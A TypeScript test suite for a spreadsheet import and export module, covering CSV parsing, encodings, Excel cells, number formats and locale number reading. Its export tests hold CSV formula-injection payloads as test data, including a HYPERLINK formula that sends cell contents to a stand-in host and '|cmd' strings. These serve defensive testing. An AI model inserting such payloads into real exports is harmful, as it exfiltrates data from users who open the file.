import fc from 'fast-check';
import { type Cell as WorkbookCell, writeXlsx } from 'hucre/xlsx';
import { describe, expect, onTestFinished, test, vi } from 'vitest';
import { readCsv, toCsv } from '../../src/panel/import/files/csvFile.ts';
import { readImportFile } from '../../src/panel/import/files/readImportFile.ts';
import { shownText } from '../../src/panel/import/files/shownText.ts';
import { numberColumn, readNumber } from '../../src/panel/import/numberColumn.ts';
import type { Units } from '../../src/shared/text/numberText.ts';

const cellsOf = async (file: Blob) => {
  const read = await readImportFile(file);
  return 'problem' in read ? read : [read.titles, ...read.rows.map(({ cells }) => cells)];
};
const utf16 = (text: string, isLittle: boolean) =>
  new Uint8Array(
    [...text]
      .flatMap((one) => [one.charCodeAt(0) & 255, one.charCodeAt(0) >> 8])
      .map((_, at, all) => all[isLittle ? at : at ^ 1] ?? 0),
  );

describe('A CSV file', () => {
  test.each([
    ['a semicolon', 'Code;Price\r\nA-1;12,50\r\n'],
    ['a comma', 'Code,Price\r\nA-1,"12,50"\r\n'],
    ['a tab', 'Code\tPrice\r\nA-1\t12,50\r\n'],
    ['what its first line says', 'sep=|\r\nCode|Price\r\nA-1|12,50\r\n'],
  ])('is separated by %s, however short it is', async (_, text) => {
    expect(await cellsOf(new Blob([text]))).toEqual([
      ['Code', 'Price'],
      ['A-1', '12,50'],
    ]);
  });

  test('may begin with blank lines, and end as in DOS; one column has no separator', async () => {
    expect(await cellsOf(new Blob(['\n\n;;\nA;B\n\n1;2\n;\n\x1a']))).toEqual([
      ['A', 'B'],
      ['1', '2'],
    ]);
    expect(await cellsOf(new Blob(['Price\r\n1,5\r\n"2;5"\r\n']))).toEqual([['Price'], ['1,5'], ['2;5']]);
  });

  test('with commas in its titles is separated by the sign that all lines have', async () => {
    expect(await cellsOf(new Blob(['Price, net;Name, long\n1,50;Oak\n']))).toEqual([
      ['Price, net', 'Name, long'],
      ['1,50', 'Oak'],
    ]);
  });

  test.each([
    ['its head in another way than its rows', 'A;B\r\n1;2\n3;4\n'],
    ['some rows in another way than others', 'A;B\n1;2\r\n3;4'],
    ['all as an old Mac does', 'A;B\r1;2\r3;4\r'],
    ['in all ways, a quoted cell before each', '"A";"B"\r"1";"2"\r\n3;"4"\n'],
    ['as its first line does not', 'sep=;\rA;B\n1;2\r\n3;4'],
  ])('may end %s', async (_, text) => {
    expect(await cellsOf(new Blob([text]))).toEqual([
      ['A', 'B'],
      ['1', '2'],
      ['3', '4'],
    ]);
  });

  test('keeps the line breaks within a quoted cell, however its lines end', async () => {
    const read = await cellsOf(new Blob(['A;B\r\n"1\r\n2";"say ""3\r4"""\n5;6" wide\r7;"8\n"']));
    expect(read).toEqual([
      ['A', 'B'],
      ['1\r\n2', 'say "3\r4"'],
      ['5', '6" wide'],
      ['7', '8'],
    ]);
  });

  test('has rows as wide as its lines are, but for blank cells at their ends', async () => {
    expect(await cellsOf(new Blob(['A;B;;\n1;2;;;\n3\n5;6;;7\n']))).toEqual([
      ['A', 'B', '', ''],
      ['1', '2', '', ''],
      ['3'],
      ['5', '6', '', '7'],
    ]);
    expect(await cellsOf(new Blob(['A;B;\n1;2;3;4\n5;6;;;\n']))).toEqual([
      ['A', 'B', ''],
      ['1', '2', '3', '4'],
      ['5', '6', ''],
    ]);
    expect(await cellsOf(new Blob(['A;B;;\n1;2;;\n']))).toEqual([
      ['A', 'B'],
      ['1', '2'],
    ]);
  });

  test.each(['#N/A', '#DIV/0!', '#NAME?', '#REF!', '#NV', '#WERT!', '#¡VALOR!', '#ЗНАЧ!', 'Err:502', '#########'])(
    'has no value where a spreadsheet wrote %s',
    async (text) => {
      expect(await cellsOf(new Blob([`A;B\n1;#1\n2;${text}`]))).toEqual([
        ['A', 'B'],
        ['1', '#1'],
        ['2', { at: 'B3', text, problem: 'importCellError' }],
      ]);
    },
  );

  test.each([
    ['UTF-8 with a byte order mark', new TextEncoder().encode('\ufeffName;N\nKäfer;1')],
    ['UTF-16 LE with a byte order mark', utf16('\ufeffName;N\nKäfer;1', true)],
    ['UTF-16 BE with a byte order mark', utf16('\ufeffName;N\nKäfer;1', false)],
    ['UTF-16 LE', utf16('Name;N\nKäfer;1', true)],
    ['UTF-16 BE', utf16('Name;N\nKäfer;1', false)],
    ['windows-1252', Uint8Array.from('Name;N\nK\xe4fer;1', (one) => one.charCodeAt(0))],
  ])('may be in %s', async (_, bytes) => {
    vi.stubGlobal('navigator', { languages: ['en'] });
    onTestFinished(() => void vi.unstubAllGlobals());
    expect(await cellsOf(new Blob([bytes]))).toEqual([
      ['Name', 'N'],
      ['Käfer', '1'],
    ]);
  });

  test.each([
    ['has only titles', 'Name;Price\n', { problem: 'importUnread' }],
    ['has a quoted text that never ends', 'Name;Price\nOak;1\n"Elm;2\n', { problem: 'importQuote', line: 3 }],
    ['is a picture', '\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0', { problem: 'importNotTable' }],
    ['is an old Excel file', '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1', { problem: 'importOldExcel' }],
    ['is a ZIP archive', 'PK\x03\x04 of something', { problem: 'importDamaged' }],
  ])('that %s is reported', async (_, text, problem) => {
    expect(await readImportFile(new Blob([Uint8Array.from(text, (one) => one.charCodeAt(0))]))).toEqual(problem);
  });
});

test('A file that was removed before it is read is reported', async () => {
  const gone = new Blob(['Name\nOak']);
  vi.spyOn(gone, 'arrayBuffer').mockRejectedValue(new DOMException('gone', 'NotReadableError'));
  expect(await readImportFile(gone)).toEqual({ problem: 'importUnread' });
});

describe('An Excel workbook', () => {
  test('has numbers, days and percentages in the cells of its first sheet', async () => {
    const made = new Date('2026-03-01T00:00:00Z');
    const bytes = await writeXlsx({
      sheets: [
        {
          name: 'Crates',
          columns: [{}, {}, { numFmt: 'dd.mm.yyyy' }, { numFmt: '0.0%' }],
          rows: [['Code', 'Price', 'Made', 'Share'], ['A-1 ', 1.299, made, 0.07], [], ['A-2', '1.299', null, null]],
        },
        { name: 'Notes', rows: [['x']] },
      ],
    });
    const read = await readImportFile(new Blob([new Uint8Array(bytes)]));
    expect(read).toEqual({
      titles: ['Code', 'Price', 'Made', 'Share'],
      rows: [
        { line: 2, cells: ['A-1', 1.299, made, '7%'], shown: new Map([[2, '01.03.2026']]) },
        { line: 4, cells: ['A-2', '1.299', '', ''] },
      ],
    });
  });
});

test('the number of a formula has no more digits than a workbook keeps', async () => {
  const read = await readImportFile(
    await workbook([
      [{ value: 'Price' }],
      [{ value: 110.00000000000001 }],
      [{ value: 0.30000000000000004 }],
      [{ value: 4007000000000123 }],
    ]),
  );
  expect('rows' in read && read.rows.map(({ cells }) => cells[0])).toEqual([110, 0.3, 4007000000000123]);
});

/** A workbook with cells as they are in its sheet. */
async function workbook(rows: readonly (readonly Partial<WorkbookCell>[])[]): Promise<Blob> {
  const cells = rows.flatMap((row, line) => row.map((cell, place) => [`${line},${place}`, cell] as const));
  const values = rows.map((row) => row.map(({ value = null }) => value));
  return new Blob([
    new Uint8Array(await writeXlsx({ sheets: [{ name: 'Crates', rows: values, cells: new Map(cells) }] })),
  ]);
}

describe('The text that a workbook shows', () => {
  const day = new Date('2026-03-01T13:05:00Z');

  test.each([
    [42, '00000', '00042'],
    [49301234, '"+"0', '+49301234'],
    [12345678, '000-000-000', '012-345-678'],
    [12345678, '00"."000"."000', '12.345.678'],
    [123456, '00\\.00\\.00', '12.34.56'],
    [5551234567, '[<=9999999]###-####;(###) ###-####', '(555) 123-4567'],
    [5551234, '[<=9999999]###-####;(###) ###-####', '555-1234'],
    [12.5, '#,##0.00 [$€-407]', '12.50 €'],
    [1234.5, '$#,##0.00_);\\($#,##0.00\\)', '$1,234.50'],
    [-1234.5, '$#,##0.00_);\\($#,##0.00\\)', '($1,234.50)'],
    [1.005, '0.00', '1.01'],
    [5, '0"%"', '5%'],
    [0, '0;-0;"none"', 'none'],
    [42, ';;;', '42'],
    [12345, '0.0,"k"', '12.3k'],
    [4006381333931, undefined, '4006381333931'],
    [4006381333931, '0.0E+00', '4006381333931'],
    [4e12, undefined, '4000000000000'],
    [1e15, undefined, '1000000000000000'],
    [0.1 + 0.2, undefined, '0.3'],
    [1e-7, undefined, '0.0000001'],
    [true, undefined, 'TRUE'],
    [day, 'dd.mm.yyyy', '01.03.2026'],
    [day, 'm/d/yyyy', '3/1/2026'],
    [day, '[$-407]d. mmmm yyyy;@', '1. März 2026'],
    [day, 'yyyy-mm-dd hh:mm', '2026-03-01 13:05'],
    [day, 'h:mm AM/PM', '1:05 PM'],
    [day, 'mm:ss', '05:00'],
  ])('of %s by the format %s is %s', (value, format, text) => {
    expect(shownText(value, format)).toBe(text);
  });

  test.each([1.2345678901234567e19, 1234567890123450, 9007199254740991])(
    'is unknown for %d: digits are lost',
    (number) => {
      expect(shownText(number)).toBeUndefined();
    },
  );

  test('is kept beside the value of its cell where they differ', async () => {
    const file = await workbook([
      [{ value: 'Code' }, { value: 'Price' }],
      [
        { value: 42, style: { numFmt: '00000' } },
        { value: 12.5, style: { numFmt: '0.00 "EUR"' } },
      ],
      [{ value: 7 }, { value: 1.2345678901234567e19 }],
    ]);
    const read = await readImportFile(file);
    expect('problem' in read ? [] : read.rows.map(({ cells, shown }) => [cells, shown && [...shown]])).toEqual([
      [
        [42, 12.5],
        [
          [0, '00042'],
          [1, '12.50 EUR'],
        ],
      ],
      [[7, 1.2345678901234567e19], [[1, { at: 'B3', text: '1.23457e+19', problem: 'importCutNumber' }]]],
    ]);
  });
});

test('A workbook reports cells with an error, or with a formula without a result', async () => {
  const file = await workbook([
    [{ value: 'Code' }, { value: 'Price' }, { value: 'Note' }],
    [
      { value: '#N/A', type: 'error' },
      { value: null, formula: 'SUM(A1:A3)' },
      { value: 'A-1', formula: '"A-"&1', formulaResult: 'A-1' },
      { value: 'aside' },
    ],
    [{ value: '#DIV/0!' }, { value: 2, formula: '1+1', formulaResult: 2 }],
  ]);
  expect(await cellsOf(file)).toEqual([
    ['Code', 'Price', 'Note', ''],
    [
      { at: 'A2', text: '#N/A', problem: 'importCellError' },
      { at: 'B2', text: '=SUM(A1:A3)', problem: 'importNoResult' },
      'A-1',
      'aside',
    ],
    [{ at: 'A3', text: '#DIV/0!', problem: 'importCellError' }, 2, '', ''],
  ]);
});

describe('Numbers', () => {
  const none: Units = { own: [], isMoney: false };
  const dollars: Units = { own: ['$'], isMoney: true };
  const read = (units: Units, ...texts: string[]) => {
    const column = numberColumn(units, texts, undefined);
    return texts.map((text) => readNumber(text, column));
  };

  test.each([
    ['1.299,00', 1299],
    ['12.345,60', 12345.6],
    ['1 299,00', 1299],
    ['1\u00a0299,00', 1299],
    ['1\u202f299,00', 1299],
    ["1'299.00", 1299],
    ['1’299.5', 1299.5],
    ['1.299.000', 1_299_000],
    ['1,29,900.00', 129_900],
    ['0.125', 0.125],
    ['−3,5', -3.5],
    ['5-', -5],
    ['(5)', -5],
    ['١٢٩٩٫٥٠', 1299.5],
    ['1e3', 1000],
    ['.5', 0.5],
  ])('%s is %d', (text, number) => {
    expect(read(none, text)).toEqual([number]);
  });

  test('may have the unit of their field, and no other', () => {
    expect(read({ own: ['kg'], isMoney: false }, '2 kg', '2 KG', '2 g')).toEqual([2, 2, undefined]);
    expect(read(dollars, '$1,299.00', '-$5', '$ -5', '5 USD')).toEqual([1299, -5, -5, 5]);
    expect(read(none, '149,95 €')).toEqual([undefined]);
  });

  test('in another currency are read, and reported', () => {
    expect(read(dollars, '149,95 €')).toEqual([149.95]);
    expect(numberColumn(dollars, ['149,95 €', '$5', 'EUR 7'], undefined).currencies).toEqual(['€', 'eur']);
  });

  test.each(['much', '1.12.2026', '12.50.000', '1,2,3', '--5', '5+', '0x10', 'e5', '.', '5 apples'])(
    '%s is no number',
    (text) => {
      expect(read(dollars, text)).toEqual([undefined]);
    },
  );

  test('that are ambiguous are read like the others of their column', () => {
    expect(read(none, '1.299', '5,50')).toEqual([1299, 5.5]);
    expect(read(none, '1.299', '5.50')).toEqual([1.299, 5.5]);
    expect(read(none, '1,299', '1,299.00')).toEqual([1299, 1299]);
  });

  test.each([[['1.299', '7']], [['1,299', '12,345']], [['1.200', '5,50', '7.5']]])(
    'that stay ambiguous need an answer of the user: %s',
    (texts) => {
      const open = numberColumn(none, texts, undefined);
      expect([open.unsure, open.mark]).toEqual([texts[0], undefined]);
      expect(readNumber(texts[0] ?? '', open)).toBeUndefined();
      const readings = ([',', '.'] as const).map((mark) => readNumber(texts[0] ?? '', numberColumn(none, texts, mark)));
      expect(new Set(readings).size).toBe(2);
    },
  );
});

describe('No cell that is exported', () => {
  const separators = /[,;\t|\r\n]/;
  const formula = /^["\s]*[=+\-@＝＋－＠]/;

  test.each([
    '=1+1',
    'a;=1+1;b',
    '\n=1+1',
    '\r=1+1',
    '\t=1+1',
    ' =1+1',
    '\u00a0=1+1',
    '＝1+1',
    '＋1+1',
    '－1+1',
    '-1+1',
    '+1*cmd',
    '-2+3|cmd',
    '+A1',
    '--1',
    '+49 30+1',
    '＠SUM(1)',
    'a;"=1+1";b',
    'a\n-1+1|cmd',
    'a\u200b=1+1',
    'a\t@x',
    "'=1",
    "a;''=1",
  ])('becomes a formula, however a spreadsheet splits it: %j', (text) => {
    const csv = toCsv(['Name'], [[text]], ',').slice(1);
    for (const part of csv.slice(csv.indexOf('\r\n') + 2).split(separators)) expect(part).not.toMatch(formula);
    const read = readCsv(csv);
    expect('problem' in read ? read : read.rows[0]?.cells).toEqual([text.trim()]);
  });

  test.each(['Lamp,=HYPERLINK("http://evil.example?x="&A1,"open")', 'a,=1+1', 'a, @SUM(A1),-1+1', "a,'=1"])(
    'becomes a formula where the separator is another than the comma: %j',
    (text) => {
      const csv = toCsv(['Name', 'Size'], [[text, 'X']], ';').slice(1);
      for (const part of csv.slice(csv.indexOf('\r\n') + 2).split(separators)) expect(part).not.toMatch(formula);
      const read = readCsv(csv);
      expect('problem' in read ? read : read.rows[0]?.cells).toEqual([text, 'X']);
    },
  );

  test('is a sign before digits: it stays as it is, and so does one of an earlier file, or with an apostrophe of its own', () => {
    const texts = [
      '+49 30 1234',
      '+1 (555) 010-0199',
      '+358-40-123',
      '+5',
      '-5',
      '-1 234,50',
      '-1.5',
      '-5 %',
      '-$3.00',
      '+49/30',
    ];
    for (const delimiter of [',', ';', '\t']) {
      const csv = toCsv(['One', 'Two'], [texts, texts.map((text) => `'${text}`)], delimiter).slice(1);
      expect(csv).toContain(
        `\n+49 30 1234${delimiter}+1 (555) 010-0199${delimiter}+358-40-123${delimiter}+5${delimiter}-5`,
      );
      const read = readCsv(csv);
      expect('problem' in read ? read : read.rows.map(({ cells }) => cells)).toEqual([
        texts,
        texts.map((text) => `'${text}`),
      ]);
    }
    const earlier = readCsv("One,Two\r\n'+49 30 1234,'-20 % week");
    expect('problem' in earlier ? earlier : earlier.rows[0]?.cells).toEqual(['+49 30 1234', '-20 % week']);
  });

  test('comes back as another text', () => {
    const texts = fc.string({ unit: fc.constantFrom(...'=+-@＝－\';,\t\n\r" 1a('.split('')), maxLength: 8 });
    fc.assert(
      fc.property(
        fc.array(fc.tuple(texts, texts), { minLength: 1 }),
        fc.constantFrom(',', ';', '|', '\t'),
        (rows, by) => {
          const read = readCsv(`sep=${by}\r\n${toCsv(['One', 'Two'], rows, by).slice(1)}`);
          const filled = rows.map((row) => row.map((text) => text.trim())).filter((row) => row.some(Boolean));
          expect('problem' in read ? [] : read.rows.map(({ cells }) => cells)).toEqual(filled);
        },
      ),
    );
  });
});
